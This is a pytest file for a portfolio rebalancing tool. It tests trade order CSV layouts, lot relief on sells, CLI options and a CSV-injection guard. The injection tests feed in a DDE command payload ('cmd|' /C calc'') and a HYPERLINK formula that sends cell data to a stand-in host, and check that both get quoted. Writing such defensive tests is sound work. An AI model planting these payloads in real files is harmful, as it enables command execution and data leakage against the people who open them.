"""Order files: the generic, desk and desk-lots layouts agree with the plan's trades, sells carry
their lot relief, and no cell a spreadsheet could execute is ever written."""
from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.results import Result, Trade
from formats.orders import DESK_COLUMNS, ORDER_COLUMNS, ORDER_FORMATS, order_file, orders_csv, safe_cell

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = ROOT / "examples" / "custodians"


def result(trades: list[Trade]) -> Result:
    return Result(tool="rebalance", household="t", as_of="2026-11-24", status="optimal", solver="highs", solve_seconds=0.0, trades=trades)


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def sell(account="brokerage", ticker="VTI", shares=10.0, lot="VTI-1", acquired="2016-09-12") -> Trade:
    return Trade(account=account, ticker=ticker, action="sell", shares=shares, price=331.4, amount=round(shares * 331.4, 2),
                 lot_id=lot, acquired=acquired, realized_gain=100.0, term="long")


def buy(account="brokerage", ticker="BND", shares=5.0) -> Trade:
    return Trade(account=account, ticker=ticker, action="buy", shares=shares, price=74.1, amount=round(shares * 74.1, 2))


# ---- CSV injection ----------------------------------------------------------------------

@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_with_a_formula_character_is_quoted(start):
    assert safe_cell(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"


def test_plain_text_and_numbers_pass_unchanged():
    assert safe_cell("VTI") == "VTI" and safe_cell("joint-brokerage") == "joint-brokerage"
    assert safe_cell(-1160.92) == -1160.92 and safe_cell(None) == ""


@pytest.mark.parametrize("layout", ORDER_FORMATS)
def test_no_layout_writes_an_executable_cell(layout):
    hostile = [sell(account='=HYPERLINK("http://x.example/?"&A1)', ticker="@SUM(A1)", lot="+1-1", acquired="2020-01-02"),
               buy(account="-2+3", ticker="\tVXUS")]
    for row in csv.reader(io.StringIO(order_file(result(hostile), layout))):
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")) and not (value.startswith("-") and not _is_number(value)), (layout, value)
    assert "'=HYPERLINK" in order_file(result(hostile), layout)


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_generic_keeps_negative_gains_as_numbers():
    t = sell()
    t.realized_gain = -1160.92
    (row,) = rows(orders_csv(result([t])))
    assert list(row) == ORDER_COLUMNS and row["realized_gain"] == "-1160.92"


# ---- desk layouts -----------------------------------------------------------------------

def test_desk_is_one_row_per_order_with_lot_relief():
    trades = [sell(shares=140, lot="VTI-1", acquired="2016-09-12"), sell(shares=35, lot="VTI-2", acquired="2026-04-20"),
              sell(account="ira", ticker="BND", shares=20, lot="BND-1", acquired=None), buy(shares=12.5)]
    desk = rows(order_file(result(trades), "desk"))
    assert list(desk[0]) == DESK_COLUMNS
    vti, ira, bnd = desk
    assert (vti["side"], vti["ticker"], vti["quantity"], vti["order_type"], vti["lot_relief"]) == ("SELL", "VTI", "175", "MARKET", "SPECIFIC_LOT")
    assert vti["lot_ids"] == "VTI-1 x 140; VTI-2 x 35"
    assert vti["versus_purchase"] == "VSP 2016-09-12 x 140; VSP 2026-04-20 x 35"
    assert (ira["lot_relief"], ira["versus_purchase"]) == ("", "")  # tax-deferred: the default method applies
    assert (bnd["side"], bnd["quantity"], bnd["lot_relief"], bnd["est_amount"]) == ("BUY", "12.5", "", "926.25")
    assert vti["est_amount"] == "57995.00"  # cents, summed over the order's lots


trade_lists = st.lists(
    st.builds(lambda acct, tick, action, shares, day: (
        sell(acct, tick, shares, f"{tick}-{day}", f"2020-01-{day:02d}") if action == "sell" else buy(acct, tick, shares)),
        st.sampled_from(["a", "b"]), st.sampled_from(["VTI", "BND", "VXUS"]), st.sampled_from(["sell", "buy"]),
        st.floats(min_value=0.001, max_value=5000, allow_nan=False).map(lambda x: round(x, 6)), st.integers(1, 28)),
    max_size=12)


@given(trade_lists)
def test_desk_layouts_hold_exactly_the_plans_shares(trades):
    r = result(trades)
    desk, per_lot = rows(order_file(r, "desk")), rows(order_file(r, "desk-lots"))
    assert len(per_lot) == len(trades)
    assert len(desk) == len({(t.account, t.action, t.ticker) for t in trades})
    for order in desk:
        mine = [t for t in trades if (t.account, t.action.upper(), t.ticker) == (order["account"], order["side"], order["ticker"])]
        assert float(order["quantity"]) == pytest.approx(sum(t.shares for t in mine), abs=1e-6)
        lines = [x for x in per_lot if x["order_id"] == order["order_id"]]
        assert sum(float(x["quantity"]) for x in lines) == pytest.approx(float(order["quantity"]), abs=1e-5)
        if order["side"] == "SELL":
            assert order["lot_relief"] == "SPECIFIC_LOT"
            assert all(f"VSP {t.acquired} x" in order["versus_purchase"] for t in mine)
    sides = [o["side"] for o in desk]
    assert sides == sorted(sides, key=lambda s: s != "SELL")  # sells first: their cash funds the buys


def test_an_unknown_layout_is_refused():
    with pytest.raises(ValueError, match="use one of generic, desk, desk-lots"):
        order_file(result([]), "schwab-block")


# ---- through the CLI --------------------------------------------------------------------

def test_cli_trades_format_desk_matches_the_generic_file(tmp_path):
    household = tmp_path / "household.json"
    files = [FIXTURES / n for n in ("All-Accounts-Positions-2026-11-24-093012.csv", "VTI_Lot_Details_XXXX-4321.csv",
                                    "VXUS_Lot_Details_XXXX-4321.csv", "BND_Lot_Details_XXXX-4321.csv")]
    r = subprocess.run([sys.executable, "-m", "assistant.cli", "import", *map(str, files), "--targets", str(FIXTURES / "targets.json"), "-o", str(household)],
                       cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    out = {}
    for layout in ("generic", "desk"):
        out[layout] = tmp_path / f"{layout}.csv"
        r = subprocess.run([sys.executable, "-m", "assistant.cli", "rebalance", str(household), "--solver", "highs", "--no-baseline",
                            "--trades-csv", str(out[layout]), "--trades-format", layout], cwd=ROOT, capture_output=True, text=True, timeout=300)
        assert r.returncode == 0, r.stderr
    generic, desk = rows(out["generic"].read_text()), rows(out["desk"].read_text())
    assert generic and desk
    for order in desk:
        mine = [g for g in generic if (g["account"], g["action"].upper(), g["ticker"]) == (order["account"], order["side"], order["ticker"])]
        assert float(order["quantity"]) == pytest.approx(sum(float(g["shares"]) for g in mine), abs=1e-5)
        if order["side"] == "SELL" and order["account"] == "schwab-4321":
            assert order["lot_relief"] == "SPECIFIC_LOT" and all(f"VSP {g['acquired']}" in order["versus_purchase"] for g in mine)
    assert len(generic) >= len(desk)
    assert any(o["lot_relief"] == "SPECIFIC_LOT" and o["versus_purchase"].startswith("VSP 20") for o in desk)  # a taxable sell was planned


def test_cli_refuses_an_unknown_trades_format(tmp_path):
    r = subprocess.run([sys.executable, "-m", "assistant.cli", "rebalance", "examples/couple.json", "--trades-csv", str(tmp_path / "o.csv"),
                        "--trades-format", "schwab-block"], cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert r.returncode == 2 and "--trades-format" in r.stderr and not (tmp_path / "o.csv").exists()
